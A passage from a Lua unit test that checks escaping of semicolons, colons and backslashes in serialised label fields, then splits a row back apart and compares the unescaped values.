    assert.truthy(row:find(',an\\;x:l\\\\a\\:b:t\\:1:s\\;x:,an\\;x,,t\\:1$'), row)
    -- split back: at unescaped ; then : then undo the escapes
    local labels = row:match(',([^,]*),[^,]*,[^,]*,[^,]*$')
    local function split(s, sep)
      local parts, cur, i = {}, {}, 1
      while i <= #s do
        local ch = s:sub(i, i)
        if ch == '\\' then
          cur[#cur + 1] = s:sub(i, i + 1)
          i = i + 1
        elseif ch == sep then
          parts[#parts + 1] = table.concat(cur)
          cur = {}
        else
          cur[#cur + 1] = ch
        end
        i = i + 1
      end
      parts[#parts + 1] = table.concat(cur)
      return parts
    end
    local fields = split(split(labels, ';')[1], ':')
    for i, f in ipairs(fields) do
      fields[i] = f:gsub('\\(.)', '%1')
    end
    assert.are.same({ 'an;x', 'l\\a:b', 't:1', 's;x', '' }, fields)
  end)
end)
